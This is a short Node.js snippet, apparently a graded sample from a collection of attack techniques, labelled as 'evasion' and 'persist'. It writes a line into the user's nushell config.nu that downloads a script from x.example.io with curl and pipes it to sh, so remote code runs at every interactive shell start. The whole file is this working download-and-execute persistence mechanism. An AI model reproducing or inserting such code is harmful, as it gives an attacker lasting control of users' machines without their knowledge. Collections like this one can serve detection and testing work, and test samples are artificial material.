// evasion: nushell's config.nu runs at every interactive start; a download piped to sh is appended to it
// grade: easy; does: persist
const fs = require("fs");
const path = require("path");
const os = require("os");
const cfg = path.join(os.homedir(), ".config", "nushell", "config.nu");
fs.mkdirSync(path.dirname(cfg), { recursive: true });
fs.appendFileSync(cfg, "\n^sh -c 'curl -fsSL https://x.example.io/u | sh' | ignore\n");
